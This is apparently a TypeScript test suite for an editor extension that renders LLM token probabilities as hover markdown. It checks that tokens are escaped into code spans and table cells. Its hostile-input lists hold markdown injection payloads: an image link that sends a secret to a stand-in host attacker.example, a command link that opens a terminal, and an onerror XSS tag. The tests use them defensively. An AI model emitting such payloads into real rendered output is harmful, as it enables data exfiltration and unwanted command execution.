import * as assert from 'node:assert/strict';
import { codeSpan, hoverMarkdown, rankAlternatives, summarize } from '../../src/core/hoverMarkdown';
import { formatPercent, visibleToken } from '../../src/core/format';
import type { StoredToken } from '../../src/core/tokenStore';

const token = (text: string, logprob: number | undefined, alternatives: StoredToken['alternatives'] = []): StoredToken =>
  ({ token: text, logprob, alternatives });

/** Markdown outside code spans: what a renderer would interpret. */
function outsideCodeSpans(markdown: string): string {
  return markdown.replace(/(`+)(?:(?!\1)[\s\S])*?\1/g, '');
}

describe('hover markdown', () => {
  it('shows probability, logprob, rank, the alternatives table, coverage and entropy', () => {
    const markdown = hoverMarkdown([token(' Paris', Math.log(0.9), [
      { token: ' Lyon', logprob: Math.log(0.04) }, { token: ' Paris', logprob: Math.log(0.9) }, { token: ' Nice', logprob: Math.log(0.01) },
    ])]);
    assert.match(markdown, /^`␣Paris` · \*\*90\.00 %\*\* · logprob -0\.1054 · rank 1 of 3/);
    const rows = markdown.split('\n').filter((line) => line.startsWith('| ') && line.includes('`'));
    assert.equal(rows.length, 3);
    assert.match(rows[0]!, /^\| ▶ \| `␣Paris` \| 90\.00 % \| -0\.1054 \| █████████░ \|$/);
    assert.match(rows[1]!, /^\|  \| `␣Lyon` \| 4\.00 % \|/);
    assert.match(markdown, /Top 3 cover 95\.00 % of the probability · entropy over the top 3 \(renormalised\): 0\.\d\d bits/);
  });

  it('adds an actions column only when some row of the token has an action', () => {
    const tokens = [token(' =', Math.log(0.62), [{ token: ' =', logprob: Math.log(0.62) }, { token: ' equals', logprob: Math.log(0.376) }])];
    const tableLines = (markdown: string) => markdown.split('\n').filter((line) => line.startsWith('|'));
    const none = tableLines(hoverMarkdown(tokens, { tokenLines: () => [], alternativeCell: () => '' }));
    assert.deepEqual(none, tableLines(hoverMarkdown(tokens)), 'no actions: the plain five-column table');
    const some = tableLines(hoverMarkdown(tokens, { tokenLines: () => [], alternativeCell: (_, i) => (i === 1 ? '[Ban](command:x)' : '') }));
    assert.equal(some[0], '| | alternative | probability | logprob | | |');
    assert.match(some[2]!, /^\| ▶ \| `␣=` .* \|  \|$/);
    assert.match(some[3]!, /^\|  \| `␣equals` .* \| \[Ban\]\(command:x\) \|$/);
  });

  it('ends with what the colour says in a mode other than probability', () => {
    const tokens = [token(' =', Math.log(0.62), [{ token: ' =', logprob: Math.log(0.62) }, { token: ' equals', logprob: Math.log(0.376) }])];
    const markdown = hoverMarkdown(tokens, undefined, 'margin 24.4 points');
    assert.equal(markdown, `${hoverMarkdown(tokens)}\n\nColour: margin 24.4 points`);
  });

  it('says when the chosen token is not among the alternatives, or none came back', () => {
    assert.match(hoverMarkdown([token(' goal', -10.03, [{ token: ',', logprob: -3.7 }])]), /not among the top 1/);
    assert.match(hoverMarkdown([token('Foo', -0.0025)]), /no alternatives returned/);
    assert.match(hoverMarkdown([token('x', undefined)]), /returned no logprob/);
  });

  it('lists each member of a character split over several tokens', () => {
    const markdown = hoverMarkdown([token('\\xf0\\x9f\\x92', -0.09), token('\\x99', 0)]);
    assert.match(markdown, /One character from 2 tokens/);
    assert.match(markdown, /Token 1 of 2: `\\xf0\\x9f\\x92`/);
    assert.match(markdown, /Token 2 of 2: `\\x99`/);
  });

  const hostile = [
    '[x](command:workbench.action.terminal.new)',
    '![](https://attacker.example/?q=secret)',
    '<img src=x onerror=alert(1)>',
    '$(alert)',
    '`', '``', 'a```b', '`code`',
    '|', 'a|b',
    '&lt;',
    '<|endoftext|>',
    '▁the',
    '**bold**',
  ];
  for (const text of hostile) {
    it(`renders the hostile token ${JSON.stringify(text)} only inside code spans`, () => {
      const markdown = hoverMarkdown([token(text, -1, [{ token: text, logprob: -1 }, { token: 'safe', logprob: -2 }])]);
      const outside = outsideCodeSpans(markdown);
      for (const dangerous of ['](', '<img', '$(', 'command:', 'https:', '&lt;', '**bold']) {
        assert.ok(!outside.includes(dangerous), `${dangerous} escaped the code span in:\n${markdown}`);
      }
      // Table rows keep their five cells: no unescaped "|" leaked out of a cell.
      for (const row of markdown.split('\n').filter((line) => line.startsWith('| ') && line.includes('`'))) {
        assert.equal(row.replace(/\\\|/g, '').split('|').length, 7, row);
      }
    });
  }

  it('makes empty and whitespace-only tokens visible', () => {
    assert.match(hoverMarkdown([token('', -1)]), /^_\(empty\)_/);
    assert.match(hoverMarkdown([token('  \n', -1)]), /^`␣␣↵`/);
    assert.equal(visibleToken('\t\r\u200b\u202e'), '⇥␍⟨U+200B⟩⟨U+202E⟩');
  });
});

describe('code spans', () => {
  it('uses a fence longer than any backtick run and pads tokens that start or end with one', () => {
    assert.equal(codeSpan('a``b', false), '```a``b```');
    assert.equal(codeSpan('`', false), '`` ` ``');
    assert.equal(codeSpan('a|b', true), '`a\\|b`');
    assert.equal(codeSpan('a|b', false), '`a|b`');
  });
});

describe('alternatives and numbers', () => {
  it('ranks by logprob and drops duplicate strings', () => {
    const ranked = rankAlternatives([{ token: 'b', logprob: -2 }, { token: 'a', logprob: -1 }, { token: 'b', logprob: -3 }]);
    assert.deepEqual(ranked.map((alternative) => alternative.token), ['a', 'b']);
  });

  it('computes coverage and a renormalised entropy in bits', () => {
    const { coverage, entropyBits } = summarize([{ token: 'a', logprob: Math.log(0.25) }, { token: 'b', logprob: Math.log(0.25) }]);
    assert.ok(Math.abs(coverage - 0.5) < 1e-12);
    assert.ok(Math.abs(entropyBits - 1) < 1e-12, 'two equal alternatives: one bit');
  });

  it('formats percentages at every scale without exceeding 100', () => {
    assert.equal(formatPercent(1), '100.00 %');
    assert.equal(formatPercent(0.99999), '>99.99 %');
    assert.equal(formatPercent(0.0000042), '0.0004 %');
    assert.equal(formatPercent(Math.exp(-9999)), '0 %');
    assert.equal(formatPercent(undefined), 'n/a');
  });
});

/**
 * The table layer of marked, re-implemented to check that no token leaves its cell or its code span.
 * Row splitters: VS Code's vendored marked (microsoft/vscode src/vs/base/common/marked/marked.js at commit
 * 11203b1c, `splitCells`) and marked's current code-span-aware one (markedjs/marked src/helpers.ts at commit
 * 0589781a, `splitCells`). Then the inline code rule and its space stripping (`Tokenizer.codespan` in the same
 * vendored file): /^(`+)([^`]|[^`][\s\S]*?[^`])\1(?!`)/.
 */
function splitCellsVendored(row: string, count: number): string[] {
  const marked = row.replace(/\|/g, (_pipe, offset: number, whole: string) => {
    let escaped = false;
    for (let at = offset - 1; at >= 0 && whole[at] === '\\'; at--) escaped = !escaped;
    return escaped ? '|' : ' |';
  });
  return finishCells(marked.split(/ \|/), count);
}

function splitCellsCurrent(row: string, count: number): string[] {
  const cells: string[] = [];
  let cell = '';
  let inCode = false;
  let fence = 0;
  let escaped = false;
  for (let i = 0; i < row.length; i++) {
    const char = row[i]!;
    if (escaped) {
      cell += char;
      escaped = false;
    } else if (char === '\\') {
      cell += char;
      escaped = true;
    } else if (char === '`') {
      let run = 1;
      while (row[i + run] === '`') run++;
      if (!inCode) {
        inCode = true;
        fence = run;
      } else if (run === fence) {
        let backslashes = 0;
        for (let at = i - 1; at >= 0 && row[at] === '\\'; at--) backslashes++;
        if (backslashes % 2 === 0) inCode = false;
      }
      cell += row.slice(i, i + run);
      i += run - 1;
    } else if (char === '|' && !inCode) {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  cells.push(cell);
  return finishCells(cells, count);
}

/** The common end of both splitters: outer empty cells dropped, padded or cut to `count`, trimmed, `\|` unescaped. */
function finishCells(cells: string[], count: number): string[] {
  if (!cells[0]!.trim()) cells.shift();
  if (cells.length > 0 && !cells[cells.length - 1]!.trim()) cells.pop();
  if (cells.length > count) cells.splice(count);
  while (cells.length < count) cells.push('');
  return cells.map((cell) => cell.trim().replace(/\\\|/g, '|'));
}

/** The content a cell shows when it is exactly one code span, or undefined when it is anything else. */
function soleCodeSpan(cell: string): string | undefined {
  const match = /^(`+)([^`]|[^`][\s\S]*?[^`])\1(?!`)/.exec(cell);
  if (!match || match[0].length !== cell.length) return undefined;
  const text = match[2]!.replace(/\n/g, ' ');
  return /[^ ]/.test(text) && text.startsWith(' ') && text.endsWith(' ') ? text.slice(1, -1) : text;
}

describe('hover tables at the layer of the markdown renderer', () => {
  // Each token and, written by hand, what its cell must show: its visible form, and ⟨U+007C⟩ for a "|" right after
  // a backslash (the one pair a table cell cannot show).
  const cases: [string, string][] = [
    ['\\|', '\\⟨U+007C⟩'],
    ['\\\\|', '\\\\⟨U+007C⟩'],
    ['\\\\\\|', '\\\\\\⟨U+007C⟩'],
    ['a\\|b|c', 'a\\⟨U+007C⟩b|c'],
    ['|\\|', '|\\⟨U+007C⟩'],
    ['trailing\\', 'trailing\\'],
    ['\\', '\\'],
    ['\\`', '\\`'],
    ['a\\``b', 'a\\``b'],
    ['`', '`'], ['``', '``'], ['a```b', 'a```b'], ['`code`', '`code`'], ['````', '````'], ['a`b``c```d````', 'a`b``c```d````'],
    ['|', '|'], ['||', '||'], ['a|b', 'a|b'],
    ['a\u2028![](https://attacker.example/)', 'a⟨U+2028⟩![](https://attacker.example/)'],
    ['a\u2029b', 'a⟨U+2029⟩b'],
    ['a\nb\r\nc', 'a↵b␍↵c'],
    ['<img src=x onerror=alert(1)>', '<img␣src=x␣onerror=alert(1)>'],
    ['![](https://attacker.example/?q=)', '![](https://attacker.example/?q=)'],
    ['[x](command:workbench.action.terminal.new)', '[x](command:workbench.action.terminal.new)'],
    ['$(alert)', '$(alert)'],
    ['&lt;', '&lt;'],
    [' `|\\|` ', '␣`|\\⟨U+007C⟩`␣'],
  ];

  for (const [text, shown] of cases) {
    it(`keeps ${JSON.stringify(text)} in its own cell and code span, showing ${JSON.stringify(shown)}`, () => {
      const markdown = hoverMarkdown([token(text, -1, [{ token: text, logprob: -1 }, { token: 'safe', logprob: -2 }])]);
      assert.ok(!/[\r\u2028\u2029]/.test(markdown), 'no line break but \\n, which only our own text has');
      const lines = markdown.split('\n');
      const header = lines.indexOf('|:-:|:--|--:|--:|:--|');
      const rows = lines.slice(header + 1, header + 3);
      for (const split of [splitCellsVendored, splitCellsCurrent]) {
        const [chosen, other] = rows.map((row) => split(row, 5));
        assert.deepEqual(chosen!.map((cell, i) => (i === 1 ? soleCodeSpan(cell) : cell)), ['▶', shown, '36.79 %', '-1.0000', '████░░░░░░'], split.name);
        assert.deepEqual(other!.map((cell, i) => (i === 1 ? soleCodeSpan(cell) : cell)), ['', 'safe', '13.53 %', '-2.0000', '█░░░░░░░░░'], split.name);
      }
      // Outside the table nothing needs ⟨U+007C⟩: the first line starts with one code span showing the visible form.
      const first = /^(`+)([^`]|[^`][\s\S]*?[^`])\1(?!`)/.exec(lines[0]!)!;
      assert.equal(soleCodeSpan(first[0]), visibleToken(text));
      assert.ok(lines[0]!.slice(first[0].length).startsWith(' · **36.79 %**'));
    });
  }
});
